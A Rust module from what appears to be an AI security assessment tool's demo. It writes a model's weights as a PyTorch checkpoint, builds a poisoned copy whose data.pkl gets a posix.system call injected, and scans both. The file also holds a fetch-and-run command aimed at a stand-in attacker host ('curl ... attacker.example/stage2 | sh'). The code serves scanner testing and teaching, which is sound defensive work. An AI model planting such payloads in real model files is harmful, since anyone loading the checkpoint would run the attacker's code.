//! The demo's supply-chain stage (ATLAS AML.T0010.003 AI Supply Chain Compromise: Model,
//! AML.T0011.000 Unsafe AI Artifacts): the baseline's weights are written as a PyTorch
//! checkpoint (`torch.save`'s zip layout with its zip64 end records), a copy gets a pickle
//! payload injected into `data.pkl` the way poisoned checkpoints on model hubs carry one
//! (a call right after PROTO whose result is popped, so the checkpoint still loads the same
//! weights), and both are scanned (AML.M0016 Vulnerability Scanning).

use aisec_atlas::KnowledgeBase;
use aisec_ml::native::NativeModel;
use aisec_report::html::{Block, Section};
use aisec_report::RunReport;
use aisec_scan::craft::{torch_state_dict_of, ZipWriter};
use aisec_scan::scanner::{scan_bytes, ScanOptions, ScanReport};
use aisec_scan::FileReport;

use crate::{AssessError, Result};

/// What the injected payload would run: a shell command fetched from the attacker.
pub const PAYLOAD_COMMAND: &str = "curl -s https://attacker.example/stage2 | sh";

pub struct ScanStage {
    /// The benign checkpoint, written to the report folder as `models/baseline.pt` (the
    /// poisoned copy is not written: it would run its payload when loaded).
    pub checkpoint: Vec<u8>,
    pub checkpoint_bytes: usize,
    pub tensors: usize,
    pub benign: FileReport,
    pub poisoned: FileReport,
    pub report: RunReport,
}

/// A tensor as `(name, shape, little-endian f32 bytes)`.
type Tensor = (String, Vec<i32>, Vec<u8>);

/// The model's tensors, read back from the safetensors file the model saves.
fn tensors(model: &NativeModel) -> Result<Vec<Tensor>> {
    let dir = std::env::temp_dir().join(format!("aisec-demo-scan-{}", std::process::id()));
    model.save(&dir)?;
    let path = dir.join("model.safetensors");
    let bytes = std::fs::read(&path)
        .map_err(|e| AssessError::Config(format!("cannot read {}: {e}", path.display())));
    let _ = std::fs::remove_dir_all(&dir);
    let bytes = bytes?;
    let bad = |m: &str| AssessError::Config(format!("{}: {m}", path.display()));
    let n = u64::from_le_bytes(
        bytes
            .get(..8)
            .ok_or_else(|| bad("no header"))?
            .try_into()
            .unwrap_or_default(),
    ) as usize;
    let header: serde_json::Map<String, serde_json::Value> =
        serde_json::from_slice(bytes.get(8..8 + n).ok_or_else(|| bad("short header"))?)
            .map_err(|e| bad(&e.to_string()))?;
    let body = &bytes[8 + n..];
    let mut out = Vec::new();
    for (name, t) in header.iter().filter(|(k, _)| *k != "__metadata__") {
        if t["dtype"] != "F32" {
            return Err(bad(&format!("tensor {name} is {}, not F32", t["dtype"])));
        }
        let shape: Vec<i32> = t["shape"].as_array().map_or(Vec::new(), |s| {
            s.iter()
                .filter_map(|d| d.as_i64())
                .map(|d| d as i32)
                .collect()
        });
        let (start, end) = (
            t["data_offsets"][0].as_u64().unwrap_or(0) as usize,
            t["data_offsets"][1].as_u64().unwrap_or(0) as usize,
        );
        let data = body
            .get(start..end)
            .ok_or_else(|| bad("tensor data out of range"))?;
        out.push((name.clone(), shape, data.to_vec()));
    }
    Ok(out)
}

fn checkpoint(pickle: &[u8], storages: &[Vec<u8>]) -> Vec<u8> {
    let mut z = ZipWriter::new()
        .file("baseline/data.pkl", pickle)
        .file("baseline/byteorder", b"little");
    for (i, s) in storages.iter().enumerate() {
        z = z.file(&format!("baseline/data/{i}"), s);
    }
    z = z.file("baseline/version", b"3\n");
    z.zip64_records = true;
    z.finish()
}

pub fn run(model: &NativeModel, kb: &KnowledgeBase) -> Result<ScanStage> {
    let started = std::time::Instant::now();
    let tensors = tensors(model)?;
    let specs: Vec<(String, Vec<i32>)> = tensors
        .iter()
        .map(|(n, s, _)| (n.clone(), s.clone()))
        .collect();
    let storages: Vec<Vec<u8>> = tensors.iter().map(|(_, _, d)| d.clone()).collect();
    let pickle = torch_state_dict_of(&specs);
    let benign = checkpoint(&pickle, &storages);
    // posix.system(PAYLOAD_COMMAND), its result popped, right after PROTO 2.
    let mut injected = pickle[..2].to_vec();
    injected.extend_from_slice(format!("cposix\nsystem\n(S'{PAYLOAD_COMMAND}'\ntR0").as_bytes());
    injected.extend_from_slice(&pickle[2..]);
    let poisoned = checkpoint(&injected, &storages);

    let options = ScanOptions::default();
    let benign_report = scan_bytes("models/baseline.pt", &benign, &options);
    let poisoned_report = scan_bytes("baseline-poisoned.pt", &poisoned, &options);
    let scan = ScanReport {
        files: vec![benign_report.clone(), poisoned_report.clone()],
        strict: false,
        limits: options.limits.clone(),
    };
    let report = crate::scan::scan_run_report(
        &scan,
        kb,
        "the baseline CNN as a PyTorch checkpoint, and a copy with a pickle payload injected",
        crate::scan::ScanSettings {
            strict: false,
            allow: Vec::new(),
            allowlist: None,
            limits: options.limits.clone(),
            payload: Some(PAYLOAD_COMMAND),
        },
        started.elapsed().as_secs_f64(),
    );
    Ok(ScanStage {
        checkpoint_bytes: benign.len(),
        checkpoint: benign,
        tensors: tensors.len(),
        benign: benign_report,
        poisoned: poisoned_report,
        report,
    })
}

pub fn section(stage: Option<&ScanStage>) -> Section {
    let heading = "Supply chain: a poisoned checkpoint, scanned".to_string();
    let Some(stage) = stage else {
        return Section {
            heading,
            blocks: vec![Block::Paragraph("Not run.".into())],
        };
    };
    // The mitigations with their lifecycle phases, as the knowledge base gives them.
    let mitigations = stage
        .report
        .findings
        .first()
        .map(|f| {
            f.mitigations
                .iter()
                .map(|m| format!("{} ({})", m.id.as_str(), m.phases.join(", ")))
                .collect::<Vec<_>>()
                .join("; ")
        })
        .unwrap_or_default();
    let mut rows = Vec::new();
    for file in [&stage.benign, &stage.poisoned] {
        if file.findings.is_empty() {
            rows.push(vec![
                file.path.clone(),
                file.verdict.as_str().to_string(),
                format!(
                    "{} pickle opcodes, {} parts, no finding",
                    file.opcodes,
                    file.parts.len()
                ),
                String::new(),
                String::new(),
                String::new(),
            ]);
        }
        for f in &file.findings {
            rows.push(vec![
                file.path.clone(),
                f.verdict.as_str().to_string(),
                format!("{} {}", f.rule, f.call.clone().unwrap_or_default()),
                format!(
                    "{} byte {}",
                    f.member.clone().unwrap_or_default(),
                    f.offset.map_or("-".into(), |o| o.to_string())
                ),
                f.atlas.join(", "),
                mitigations.clone(),
            ]);
        }
    }
    Section {
        heading,
        blocks: vec![
            Block::Paragraph(format!(
                "The baseline's {} tensors written as a PyTorch checkpoint ({} bytes, torch.save's zip layout), and a copy whose data.pkl gets a payload injected right after PROTO — `posix.system('{PAYLOAD_COMMAND}')`, its result popped, so the file still loads the same weights (AML.T0010.003 AI Supply Chain Compromise: Model; AML.T0011.000 Unsafe AI Artifacts). Both scanned without executing anything (AML.M0016 Vulnerability Scanning; AML.M0014 Verify AI Artifacts then pins what was scanned by checksum).",
                stage.tensors, stage.checkpoint_bytes
            )),
            Block::Table {
                headers: ["file", "verdict", "finding", "where", "ATLAS", "mitigations"].map(String::from).to_vec(),
                rows,
            },
            Block::Paragraph("Reproduce: `aisec scan model.pt` (exit 0 clean, 1 findings, 2 errors; `--format sarif` for code scanning).".into()),
        ],
    }
}
